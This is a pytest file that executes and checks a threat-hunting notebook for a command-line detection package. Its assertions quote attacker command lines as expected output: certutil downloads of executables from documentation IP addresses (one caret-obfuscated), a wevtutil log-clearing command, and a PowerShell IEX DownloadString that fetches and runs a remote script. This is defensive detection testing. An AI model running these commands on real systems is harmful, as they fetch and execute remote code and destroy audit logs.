"""docs/notebooks/hunt.ipynb runs from top to bottom against the package as
built, and shows what it says it shows.

The notebook is executed from a copy in memory (the committed file, with
its outputs, is never rewritten), in a "python3" kernel whose working
directory is docs/notebooks, as Jupyter would run it. Regenerate the
committed outputs with tools/make_hunt_notebook.py.
"""

import copy
import importlib.util
from typing import Any, Dict, List

import pytest

from conftest import CORPUS, ROOT


def need(name: str) -> Any:
    why = f"{name} is not installed: the notebook test needs nbformat, nbclient, ipykernel, pandas and matplotlib"
    return pytest.importorskip(name, reason=why)


nbformat = need("nbformat")
nbclient = need("nbclient")
need("ipykernel")
need("pandas")
need("matplotlib")

NOTEBOOK = ROOT / "docs" / "notebooks" / "hunt.ipynb"
GENERATOR = ROOT / "tools" / "make_hunt_notebook.py"
SIGMA_DIR = CORPUS / "sigma" / "rules" / "windows" / "process_creation"


def texts(cell: Any) -> str:
    """Everything a code cell printed or displayed, as text (plain and HTML)."""
    out: List[str] = []
    for o in cell.get("outputs", []):
        if o["output_type"] == "stream":
            out.append(o["text"])
        elif o["output_type"] in ("execute_result", "display_data"):
            data = o["data"]
            out.append(data.get("text/plain", ""))
            out.append(data.get("text/html", ""))
    return "\n".join(out)


def errors(nb: Any) -> List[str]:
    return [
        f"{c['id']}: {o['ename']}: {o['evalue']}"
        for c in nb.cells
        if c.cell_type == "code"
        for o in c.get("outputs", [])
        if o["output_type"] == "error"
    ]


@pytest.fixture(scope="module")
def committed() -> Any:
    return nbformat.read(str(NOTEBOOK), as_version=4)


@pytest.fixture(scope="module")
def executed(committed: Any) -> Dict[str, Any]:
    """The notebook executed afresh: its cells by id."""
    nb = copy.deepcopy(committed)
    for cell in nb.cells:
        if cell.cell_type == "code":
            cell.outputs = []
            cell.execution_count = None
    client = nbclient.NotebookClient(
        nb,
        kernel_name="python3",
        timeout=120,
        record_timing=False,
        resources={"metadata": {"path": str(NOTEBOOK.parent)}},
    )
    try:
        client.execute()
    except nbclient.exceptions.CellExecutionError as e:
        pytest.fail(f"the notebook failed:\n{e}")
    assert errors(nb) == []
    return {c["id"]: c for c in nb.cells}


def cell_with(cells: Dict[str, Any], source: str) -> Any:
    """The one code cell whose source contains `source`."""
    found = [c for c in cells.values() if c.cell_type == "code" and source in c.source]
    assert len(found) == 1, f"{len(found)} code cells contain {source!r}"
    return found[0]


def test_runs_to_the_end(executed: Dict[str, Any]) -> None:
    code = [c for c in executed.values() if c.cell_type == "code"]
    assert code and all(c.execution_count is not None for c in code)


def test_alerts_and_counts(executed: Dict[str, Any]) -> None:
    table = texts(cell_with(executed, "alerts = detections["))
    assert "lotl.certutil_download" in table
    assert "corr.logon_then_lotl_tool" in table
    # The alert view is the coloured detections table, without enrichment.
    assert 'class="landwatch-detections"' in table
    assert "disc.systeminfo" not in table
    counts = texts(cell_with(executed, "per_rule(alerts)"))
    assert "lotl.certutil_download" in counts and "exec.psexesvc_child" in counts


def test_zones_correlations(executed: Dict[str, Any]) -> None:
    out = texts(cell_with(executed, "credentials.landwatch.scan(zones=zones)"))
    assert "fire only with zones: ['corr.credentials_cross_zones', 'corr.offhours_admin_logon']" in out


def test_timeline_is_a_png(executed: Dict[str, Any]) -> None:
    cell = cell_with(executed, "timeline(top, alerts")
    assert any("image/png" in o.get("data", {}) for o in cell.outputs)


def test_correlation_rows(executed: Dict[str, Any]) -> None:
    out = texts(cell_with(executed, "correlations = alerts["))
    assert "corr.logon_then_lotl_tool" in out
    # The remote desktop logon (row 181) and the whoami it led to (row 183).
    assert "completed by row 183" in out
    assert "whoami /all" in out and "10.50.7.33" in out
    out = texts(cell_with(executed, '"corr.credentials_cross_zones"].iloc[0]'))
    # The provider's own address, then the customer's.
    assert "10.50.1.101" in out and "10.60.1.17" in out


def test_normal_form_and_decoding(executed: Dict[str, Any]) -> None:
    out = texts(cell_with(executed, "landwatch.normalize_command_line("))
    assert "certutil -urlcache -f http://198.51.100.7/a.exe c:\\users\\public\\a.exe" in out
    out = texts(cell_with(executed, 'view["CommandLine"].landwatch.normalize()'))
    assert "c^e^r^t^u^t^i^l -urlcache" in out
    assert "certutil -urlcache -split -f http://198.51.100.23/upd/wuhelper.dat" in out
    assert "wevtutil.exe cl" in out
    out = texts(cell_with(executed, "landwatch.decode_command_line(command)"))
    assert "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')" in out


def test_sigma_cell(executed: Dict[str, Any]) -> None:
    out = texts(cell_with(executed, "landwatch.load(sigma=[SIGMA_DIR], builtin=True)"))
    if SIGMA_DIR.is_dir():
        assert "Sigma alerts" in out and "0 Sigma documents rejected" in out
    else:
        assert "Skipped: no Sigma rules" in out


def test_committed_notebook(committed: Any) -> None:
    """The committed notebook carries its outputs, has no errors, and its
    cells are the ones tools/make_hunt_notebook.py writes."""
    code = [c for c in committed.cells if c.cell_type == "code"]
    assert all(c.outputs for c in code), "run tools/make_hunt_notebook.py to store the outputs"
    assert errors(committed) == []
    assert NOTEBOOK.stat().st_size < 300_000
    spec = importlib.util.spec_from_file_location("make_hunt_notebook", GENERATOR)
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    generated = [(c.cell_type, c.source) for c in module.build().cells]
    assert generated == [(c.cell_type, c.source) for c in committed.cells], (
        "docs/notebooks/hunt.ipynb differs from tools/make_hunt_notebook.py: edit the generator and run it"
    )
